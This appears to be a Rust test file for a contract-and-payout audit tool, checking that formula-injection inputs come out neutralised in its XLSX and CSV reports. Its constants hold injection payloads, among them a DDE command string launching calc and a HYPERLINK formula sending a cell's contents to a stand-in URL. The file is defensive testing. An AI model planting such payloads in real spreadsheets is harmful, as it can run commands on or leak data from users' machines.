//! Formula injection: payloads in contract, payout, invoice and product texts come out neutralised in report.xlsx, findings.xlsx and findings.csv, and no spreadsheet report holds a formula cell.

use super::*;

#[test]
fn no_spreadsheet_report_holds_a_formula_cell() {
    let fixture = Fixture::new();
    let run = hostile_run(&fixture);
    for name in ["report.xlsx", "findings.xlsx"] {
        let path = run.out.join(name);
        assert_eq!(formula_cells(&path), Vec::new(), "formula cells in {name}");
    }
}

/// Payloads of research row R1 (formula injection), each in a place that reaches a report.
const EVIL_CONTRACTS: [&str; 5] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "@SUM(1+1)",
    "-2+3",
    "＝1+1",
    "\"=1+1\"",
];
const EVIL_PAYOUTS: [&str; 4] = ["+cmd|' /C calc'!A0", "=1+1", "a,=1+1", "-P"];
const EVIL_INVOICES: [&str; 4] = ["=HYPERLINK(\"http://x\")", "@INV", "+1", "a;=1+1"];
const EVIL_PRODUCT: &str = "@SUM(1+1)";
/// A payout for a contract nobody has: it becomes an `unmatched_payout` finding.
const EVIL_UNMATCHED: &str = "@P9";

/// Five contracts named by payloads, each billed and paid by a payload-named payout with a
/// payload invoice number; one bill line names a payload product, and a payout names a
/// payload contract nobody has.
fn hostile_run(fixture: &Fixture) -> Run {
    let mut book = Book::default();
    let mut lines = Vec::new();
    for (index, id) in EVIL_CONTRACTS.iter().enumerate() {
        let account = format!("A{index}");
        book = book
            .contract(contract(id).set("accounts", account.as_str()))
            .tier(id, "0", "", "20%");
        lines.push((account, "ECS".to_string()));
    }
    lines.push(("A0".to_string(), EVIL_PRODUCT.to_string()));
    let contracts = book.write_xlsx(fixture.dir.path(), "book.xlsx");
    let billing_lines: Vec<(&str, &str, &str, &str, &str)> = lines
        .iter()
        .map(|(account, product)| {
            (
                account.as_str(),
                "2025-01",
                product.as_str(),
                "10000.00",
                "CNY",
            )
        })
        .collect();
    let billing = fixture.write("billing.csv", billing_csv(&billing_lines));
    let rows: Vec<Vec<&str>> = EVIL_PAYOUTS
        .iter()
        .zip(EVIL_CONTRACTS)
        .zip(EVIL_INVOICES)
        .map(|((payout, contract), invoice)| vec![*payout, contract, "2025-02-15", "5.00", invoice])
        .chain([vec![EVIL_UNMATCHED, "+9", "2025-02-15", "1.00", "=9"]])
        .collect();
    let rows: Vec<&[&str]> = rows.iter().map(Vec::as_slice).collect();
    let payouts = fixture.write(
        "payouts.csv",
        payouts_csv(
            &[
                "payout_id",
                "contract_id",
                "paid_on",
                "amount",
                "invoice_no",
            ],
            &rows,
        ),
    );
    let run = fixture.audit(&contracts, &billing, &payouts, "2025-04-01", &[]);
    run.expect_status(1);
    run
}

#[test]
fn injection_payloads_come_out_neutralised_in_report_xlsx_findings_xlsx_and_findings_csv() {
    let fixture = Fixture::new();
    let run = hostile_run(&fixture);
    let json = run.json();
    // The inputs arrived intact: the JSON keeps the raw values.
    let ids: Vec<&str> = json["expected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|record| record["contract_id"].as_str().unwrap())
        .collect();
    for id in EVIL_CONTRACTS {
        assert!(ids.contains(&id), "contract {id:?} missing from {ids:?}");
    }
    let neutral = |payload: &str| Data::String(format!("'{payload}"));

    // report.xlsx
    let path = run.out.join("report.xlsx");
    let (_, sheets) = read_sheets(&path);
    let rows = &sheets["Installments"];
    let contract_cells: Vec<&Data> = rows[1..].iter().map(|row| &row[0]).collect();
    for id in EVIL_CONTRACTS {
        assert!(
            contract_cells.contains(&&neutral(id)),
            "{id:?}: {contract_cells:?}"
        );
    }
    let rows = &sheets["Payouts"];
    let (payout, invoice) = (column(rows, "payout_id"), column(rows, "invoice_no"));
    for (evil_payout, evil_invoice) in EVIL_PAYOUTS.iter().zip(EVIL_INVOICES) {
        let row = rows[1..]
            .iter()
            .find(|row| row[payout].to_string().ends_with(evil_payout))
            .unwrap_or_else(|| panic!("no payout {evil_payout:?} in {rows:?}"));
        if evil_payout.starts_with('a') {
            assert_eq!(row[payout], Data::String((*evil_payout).into()));
        } else {
            assert_eq!(row[payout], neutral(evil_payout));
        }
        if evil_invoice.starts_with('a') {
            assert_eq!(row[invoice], Data::String(evil_invoice.into()));
        } else {
            assert_eq!(row[invoice], neutral(evil_invoice));
        }
    }
    let unmatched = rows[1..]
        .iter()
        .find(|row| row[payout] == neutral(EVIL_UNMATCHED))
        .unwrap();
    assert_eq!(unmatched[column(rows, "contract_id")], neutral("+9"));
    let rows = &sheets["Summary"];
    assert!(
        rows.iter().any(|row| row[0] == neutral(EVIL_CONTRACTS[0])),
        "the per-contract table names the contract neutralised"
    );
    // The product is only ever inside a sentence or the facts, never a cell's start.
    let rows = &sheets["Findings"];
    let unknown = rows[1..]
        .iter()
        .find(|row| row[column(rows, "type")] == Data::String("unknown_product".into()))
        .expect("an unknown_product finding");
    assert!(
        unknown[column(rows, "facts")]
            .to_string()
            .contains(&format!("product: {EVIL_PRODUCT}")),
        "{unknown:?}"
    );
    assert_no_text_could_run(&path);

    // findings.xlsx: the same neutraliser.
    let path = run.out.join("findings.xlsx");
    let (_, sheets) = read_sheets(&path);
    let rows = &sheets["findings"];
    let contracts: Vec<&Data> = rows[1..]
        .iter()
        .map(|row| &row[column(rows, "contract_id")])
        .collect();
    for id in EVIL_CONTRACTS {
        assert!(contracts.contains(&&neutral(id)), "{id:?}: {contracts:?}");
    }
    let payouts: Vec<&Data> = rows[1..]
        .iter()
        .map(|row| &row[column(rows, "payout_id")])
        .collect();
    assert!(payouts.contains(&&neutral(EVIL_UNMATCHED)), "{payouts:?}");
    assert_no_text_could_run(&path);

    // findings.csv: neutralised, and every text field quoted so a separator opens no cell.
    let bytes = run.read("findings.csv");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let at = |name: &str| headers.iter().position(|column| column == name).unwrap();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), json["findings"].as_array().unwrap().len());
    for id in EVIL_CONTRACTS {
        let wanted = format!("'{id}");
        assert!(
            records
                .iter()
                .any(|record| record[at("contract_id")] == wanted),
            "{id:?} in findings.csv"
        );
    }
    assert!(
        records
            .iter()
            .any(|record| record[at("payout_id")] == format!("'{EVIL_UNMATCHED}"))
    );
    for record in &records {
        for field in record {
            // Money such as -2000.00 is a number, never prefixed (research R1b).
            assert!(
                field.parse::<f64>().is_ok() || !could_run(field),
                "`{field}` could run: {record:?}"
            );
        }
    }
    for line in text.lines().skip(1) {
        assert!(line.starts_with('"'), "text fields are quoted: {line}");
    }
}
